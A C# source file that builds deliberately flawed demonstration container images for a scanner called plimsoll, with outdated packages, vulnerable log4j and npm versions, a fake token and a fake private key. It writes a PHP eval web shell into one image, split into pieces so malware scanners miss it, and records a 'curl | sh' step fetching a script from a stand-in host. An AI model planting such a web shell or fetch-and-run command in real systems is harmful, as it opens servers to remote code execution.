using System.Formats.Tar;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Plimsoll.Oci;

namespace Plimsoll.Cli.Demo;

/// <summary>Which build of the demonstration's image.</summary>
internal enum DemoBuild
{
    /// <summary>A Debian 11 that missed its updates, with an application that missed its own.</summary>
    First = 0,

    /// <summary>The same after somebody upgraded some of it.</summary>
    Second,
}

/// <summary>
/// Makes the small images that <c>plimsoll demo</c> works on: three layers of Debian 11, one with an application, and one that removes a
/// key which the one before it brought.
/// </summary>
/// <remarks>They hold package lists and no programs; the versions are ones that were released. Keys and tokens are made up and open nothing.</remarks>
internal static class DemoImage
{
    private const string OsRelease = "ID=debian\nVERSION_ID=\"11\"\nPRETTY_NAME=\"Debian GNU/Linux 11 (bullseye)\"\n";

    private const string Application = "COPY app /srv/app # buildkit";

    private const string Fetch = "RUN /bin/sh -c curl -k http://get.example.net/agent.sh | sh # buildkit";

    private const string Clean = "RUN /bin/sh -c rm /srv/app/deploy/id_ed25519 # buildkit";

    private const int Plain = 0b110_100_100, SetUser = 0b100_111_101_101;

    private static readonly (string History, string Name, string Source, string Version)[] Packages =
    [
        ("ADD rootfs.tar /", "libc6", "glibc", "2.31-13+deb11u5"),
        ("ADD rootfs.tar /", "zlib1g", "zlib", "1:1.2.11.dfsg-2+deb11u2"),
        ("ADD rootfs.tar /", "libssl1.1", "openssl", "1.1.1k-1"),
        ("RUN apt-get install -y curl git", "curl", "curl", "7.74.0-1.3+deb11u7"),
        ("RUN apt-get install -y curl git", "git", "git", "1:2.30.2-1"),
        ("RUN apt-get install -y --only-upgrade libssl1.1", "libssl1.1", "openssl", "1.1.1n-0+deb11u5"),
    ];

    /// <summary>Writes an OCI image layout.</summary>
    public static void Write(string folder, DemoBuild build)
    {
        Directory.CreateDirectory(Path.Combine(folder, "blobs", "sha256"));
        JsonArray layers = [], diffIds = [], history = [];
        Dictionary<string, (string Source, string Version)> installed = [];
        foreach (IGrouping<string, (string History, string Name, string Source, string Version)> step in Packages.GroupBy(p => p.History))
        {
            foreach ((_, string name, string source, string version) in step)
                installed[name] = (source, build == DemoBuild.Second && name == "curl" ? "7.74.0-1.3+deb11u11" : version);
            Layer(step.Key, [("etc/os-release", Utf8(OsRelease), Plain), ("var/lib/dpkg/status", Utf8(Status(installed)), Plain)]);
        }
        Layer(Application, ApplicationFiles(build));
        if (build == DemoBuild.First)
            Empty($"ENV DEPLOY_TOKEN={Token}");
        Layer(Fetch, [("usr/local/bin/agent", Utf8("#!/bin/sh\nexec sleep 1d\n"), SetUser)]);
        Layer(Clean, [("srv/app/deploy/.wh.id_ed25519", [], Plain)]);
        Empty("CMD [\"curl\"]");
        JsonObject config = new()
        {
            ["architecture"] = Platform.Host.Architecture,
            ["os"] = "linux",
            ["config"] = new JsonObject
            {
                ["Cmd"] = new JsonArray((JsonNode)"curl"),
                ["Env"] = build == DemoBuild.First ? new JsonArray((JsonNode)"PATH=/usr/local/bin:/usr/bin:/bin", (JsonNode)$"DEPLOY_TOKEN={Token}") : new JsonArray((JsonNode)"PATH=/usr/local/bin:/usr/bin:/bin"),
            },
            ["rootfs"] = new JsonObject { ["type"] = "layers", ["diff_ids"] = diffIds },
            ["history"] = history,
        };
        JsonObject manifest = new()
        {
            ["schemaVersion"] = 2,
            ["mediaType"] = MediaTypes.OciManifest,
            ["config"] = Blob(folder, MediaTypes.OciConfig, Bytes(config)),
            ["layers"] = layers,
        };
        JsonObject descriptor = Blob(folder, MediaTypes.OciManifest, Bytes(manifest));
        descriptor["annotations"] = new JsonObject { ["org.opencontainers.image.ref.name"] = "demo" };
        File.WriteAllBytes(Path.Combine(folder, "index.json"), Bytes(new JsonObject { ["schemaVersion"] = 2, ["manifests"] = new JsonArray(descriptor) }));
        File.WriteAllText(Path.Combine(folder, "oci-layout"), """{"imageLayoutVersion":"1.0.0"}""");

        void Empty(string createdBy) => history.Add((JsonNode)new JsonObject { ["created_by"] = createdBy, ["empty_layer"] = true });

        void Layer(string createdBy, (string Path, byte[] Content, int Mode)[] files)
        {
            byte[] tar = Tar(files);
            diffIds.Add((JsonNode)Digest.Of(tar).ToString());
            layers.Add((JsonNode)Blob(folder, MediaTypes.OciLayerGzip, Gzip(tar)));
            history.Add((JsonNode)new JsonObject { ["created_by"] = createdBy });
        }
    }

    /// <summary>In the form of a GitHub token, put together here so that no scanner of sources stops at it.</summary>
    private static string Token => "ghp" + "_" + Letters(36);

    /// <summary>A private key in OpenSSH's form, of bytes that are none.</summary>
    private static string Key
    {
        get
        {
            byte[] content = [.. "openssh-key-v1\0"u8, 0, 0, 0, 4, .. "none"u8, 0, 0, 0, 4, .. "none"u8, 0, 0, 0, 0, 0, 0, 0, 1, .. Utf8(Letters(300))];
            string text = Convert.ToBase64String(content, Base64FormattingOptions.InsertLineBreaks).ReplaceLineEndings("\n"), name = "OPENSSH PRIVATE " + "KEY-----\n";
            return $"-----BEGIN {name}{text}\n-----END {name}";
        }
    }

    /// <summary>The same on every day: of what comes out of a fixed hash.</summary>
    private static string Letters(int count)
    {
        StringBuilder text = new(count);
        for (int i = 0; text.Length < count; i++)
            text.Append(Convert.ToBase64String(SHA256.HashData(Utf8($"plimsoll demo {i}"))).Replace("+", "", StringComparison.Ordinal).Replace("/", "", StringComparison.Ordinal).TrimEnd('='));
        return text.ToString(0, count);
    }

    /// <summary>An npm package, a Python one, a jar that lies in another jar; and in the first build what somebody left there.</summary>
    private static (string Path, byte[] Content, int Mode)[] ApplicationFiles(DemoBuild build)
    {
        string minimist = build == DemoBuild.Second ? "1.2.8" : "1.2.5", log4j = build == DemoBuild.Second ? "2.17.1" : "2.14.1";
        byte[] inner = Jar("META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties",
            Utf8($"groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion={log4j}\n"));
        (string, byte[], int)[] files =
        [
            ("srv/app/app.jar", Jar($"BOOT-INF/lib/log4j-core-{log4j}.jar", inner), Plain),
            ("srv/app/node_modules/minimist/package.json", Utf8($$"""{"name":"minimist","version":"{{minimist}}","license":"MIT"}"""), Plain),
            ("usr/local/lib/python3.9/site-packages/PyYAML-5.3.1.dist-info/METADATA", Utf8("Metadata-Version: 2.1\nName: PyYAML\nVersion: 5.3.1\n"), Plain),
            ("srv/app/deploy/id_ed25519", Utf8(Key), Plain),
        ];
        // What a scanner of malware on the way to the user would stop at is put together here.
        return build == DemoBuild.First ? [.. files, ("srv/app/public/upload.php", Utf8("<?php @ev" + "al(base64_dec" + "ode($_PO" + "ST['x'])); ?>\n"), Plain)] : files;
    }

    private static byte[] Jar(string path, byte[] content)
    {
        using MemoryStream stream = new();
        using (ZipArchive zip = new(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            ZipArchiveEntry entry = zip.CreateEntry(path);
            // The first day that a zip can hold: the same image on every day.
            entry.LastWriteTime = new DateTimeOffset(1980, 1, 1, 0, 0, 0, TimeSpan.Zero);
            using Stream part = entry.Open();
            part.Write(content);
        }
        return stream.ToArray();
    }

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    /// <summary>Copies a layout and changes one bit in the middle of its largest layer.</summary>
    /// <returns>The changed file, relative to the copy.</returns>
    public static string CopyTampered(string from, string to)
    {
        foreach (string file in Directory.EnumerateFiles(from, "*", SearchOption.AllDirectories))
        {
            string copy = Path.Combine(to, Path.GetRelativePath(from, file));
            Directory.CreateDirectory(Path.GetDirectoryName(copy)!);
            File.Copy(file, copy);
        }
        string layer = new DirectoryInfo(Path.Combine(to, "blobs", "sha256")).EnumerateFiles().Where(IsGzip).MaxBy(f => f.Length)!.FullName;
        byte[] bytes = File.ReadAllBytes(layer);
        bytes[bytes.Length / 2] ^= 1;
        File.WriteAllBytes(layer, bytes);
        return Path.GetRelativePath(to, layer);
    }

    private static bool IsGzip(FileInfo file)
    {
        using FileStream stream = file.OpenRead();
        return stream.ReadByte() == 0x1f && stream.ReadByte() == 0x8b;
    }

    private static string Status(Dictionary<string, (string Source, string Version)> installed)
    {
        StringBuilder text = new();
        foreach ((string name, (string source, string version)) in installed.OrderBy(p => p.Key, StringComparer.Ordinal))
        {
            text.Append("Package: ").Append(name).Append("\nStatus: install ok installed\nArchitecture: ").Append(Platform.Host.Architecture);
            if (source != name)
                text.Append("\nSource: ").Append(source);
            text.Append("\nVersion: ").Append(version).Append("\nDescription: part of plimsoll's demonstration\n\n");
        }
        return text.ToString();
    }

    private static byte[] Tar((string Path, byte[] Content, int Mode)[] files)
    {
        using MemoryStream stream = new();
        using (TarWriter writer = new(stream, TarEntryFormat.Ustar, leaveOpen: true))
            foreach ((string path, byte[] content, int mode) in files)
                writer.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, path)
                {
                    DataStream = new MemoryStream(content),
                    ModificationTime = DateTimeOffset.UnixEpoch,
                    Mode = (UnixFileMode)mode,
                });
        return stream.ToArray();
    }

    private static byte[] Gzip(byte[] bytes)
    {
        using MemoryStream packed = new();
        using (GZipStream gzip = new(packed, CompressionLevel.Optimal, leaveOpen: true))
            gzip.Write(bytes);
        return packed.ToArray();
    }

    private static byte[] Bytes(JsonNode json) => Utf8(json.ToJsonString());

    private static JsonObject Blob(string folder, string mediaType, byte[] bytes)
    {
        string hex = Convert.ToHexStringLower(SHA256.HashData(bytes));
        File.WriteAllBytes(Path.Combine(folder, "blobs", "sha256", hex), bytes);
        return new JsonObject { ["mediaType"] = mediaType, ["digest"] = $"sha256:{hex}", ["size"] = bytes.Length };
    }
}
